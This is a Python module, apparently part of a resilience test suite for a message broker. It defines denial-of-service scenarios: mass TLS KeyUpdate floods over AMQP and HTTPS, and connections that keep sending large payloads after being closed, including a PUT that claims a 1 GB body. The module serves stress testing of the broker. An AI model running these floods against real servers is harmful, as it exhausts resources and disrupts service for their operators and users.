"""What strangers try with records of TLS, and with connections that the broker has closed."""

from __future__ import annotations

import contextlib
import socket
from collections.abc import Iterator
from typing import Final

from target import Target

from support.brokers.openssl import TlsClient
from support.wire import raw

#: Scenarios whose broker listens for TLS.
TLS: Final = frozenset({"key-updates", "key-updates-logged-in", "key-updates-https"})

#: Connections of one round, and KeyUpdates on each: on 24 at once they took 0.7 s of the loop.
CONNECTIONS: Final = 24
UPDATES: Final = 1000

#: Connections that send on after the broker has closed them, and what each writes at once.
CLOSED: Final = 200
PIECE: Final = bytes(262_144)

LOGIN: Final = raw.blind_login("stranger")


def attack_key_updates(target: Target) -> None:
    """KeyUpdates on AMQP over TLS before the login, 24,000 at a time."""
    _update(target, target.tls_port)


def attack_key_updates_logged_in(target: Target) -> None:
    """The same behind a login, without a permission."""
    _update(target, target.tls_port, *LOGIN)


def attack_key_updates_https(target: Target) -> None:
    """The same on HTTPS."""
    _update(target, target.https_port)


def _update(target: Target, port: int, *said: bytes) -> None:
    while not target.over:
        with contextlib.ExitStack() as stack, contextlib.suppress(OSError):
            floods = []
            for _ in range(CONNECTIONS):
                client = stack.enter_context(contextlib.closing(TlsClient()))
                sock = stack.enter_context(client.connect(port, 10.0))
                sock.sendall(client.content(*said) if said else b"")
                floods.append((sock, client.updates(UPDATES)))
            for sock, flood in floods:
                with contextlib.suppress(OSError):
                    sock.sendall(flood)
            target.nap(0.2)


def attack_send_on(target: Target) -> None:
    """Connections that are refused, and send as much as they can afterwards."""
    _send_on(target, target.port, b"GET / HTTP/1.1\r\n\r\n")


def attack_send_on_http(target: Target) -> None:
    """The same with bodies of HTTP, without a password."""
    head = "PUT /api/queues/%2F/q HTTP/1.1\r\nHost: x\r\nContent-Length: 1000000000\r\n\r\n"
    _send_on(target, target.http_port, head.encode())


def _send_on(target: Target, port: int, said: bytes) -> None:
    held: list[socket.socket] = []
    while not target.over:
        while len(held) < CLOSED:
            with contextlib.suppress(OSError):
                sock = target.dial(port)
                sock.sendall(said)
                sock.setblocking(False)
                held.append(sock)
        held = list(_written(held))
        target.nap(0.01)


def _written(held: list[socket.socket]) -> Iterator[socket.socket]:
    """Write to each of them; give those that still take something."""
    for sock in held:
        try:
            sock.send(PIECE)
        except BlockingIOError:
            yield sock
        except OSError:
            sock.close()
        else:
            yield sock
